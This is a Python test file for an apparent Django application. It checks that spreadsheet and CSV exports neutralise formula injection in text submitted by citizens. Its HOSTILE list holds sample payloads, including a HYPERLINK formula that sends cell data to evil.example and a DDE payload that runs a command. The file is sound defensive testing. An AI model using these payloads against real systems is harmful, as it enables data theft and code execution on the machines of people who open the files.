"""Formula injection: what a citizen types reaches every export as text, never as a live formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from changxin.core.spreadsheets import csv_row, looks_like_formula, xlsx_row
from changxin.core.tests.builders import LUGOUQIAO, at
from changxin.triage.csvio import PredictionWriter

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def test_the_dispatchers_export_keeps_hostile_titles_as_text(client, world):
    t = at(4, 10)
    for title in HOSTILE:
        world.handle(world.new(t, title=title, address=title[:200]), LUGOUQIAO, t)
    client.force_login(world.operator)
    response = client.get(reverse("insight:export-demands"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for title in HOSTILE:
        assert title.replace("\r", "\n") in texts, title  # XML keeps a carriage return as a newline
    hostile_cells = [c for c in cells if looks_like_formula(c.value)]
    assert hostile_cells and all(c.data_type == "s" and c.quotePrefix for c in hostile_cells)


def test_ranking_export_has_no_formula(client, world):
    t = at(4, 10)
    world.handle(world.new(t), LUGOUQIAO, t)
    client.force_login(world.operator)
    response = client.get(reverse("insight:export-rankings"), {"month": "2025-03"})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    assert all(c.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("value", HOSTILE[:-1])
def test_helpers(value):
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    (cell,) = xlsx_row(sheet, [value])
    assert cell.data_type == "s" and cell.value == value
    assert csv_row([value, 3]) == ["'" + value, 3]
    assert xlsx_row(sheet, [12, None])[0].data_type == "n"


def test_prediction_csv_neutralises_formula_text(tmp_path: Path):
    target = tmp_path / "out.csv"
    with PredictionWriter(target) as writer:
        writer.write(["=1+1"], [("@cat", 0.5)])
    rows = list(csv.reader(target.open(encoding="utf-8")))
    assert rows[1] == ["'=1+1", "'@cat", "0.5000"]


def test_every_module_that_writes_spreadsheets_uses_the_helper():
    """A new export (Excel through openpyxl, or CSV) must write its rows through core/spreadsheets.py."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or path.name == "spreadsheets.py":
            continue
        text = path.read_text(encoding="utf-8")
        writes = "csv.writer(" in text or "csv.DictWriter(" in text or "Workbook(" in text
        if writes and "changxin.core.spreadsheets" not in text:
            offenders.append(str(path.relative_to(root)))
    assert offenders == []
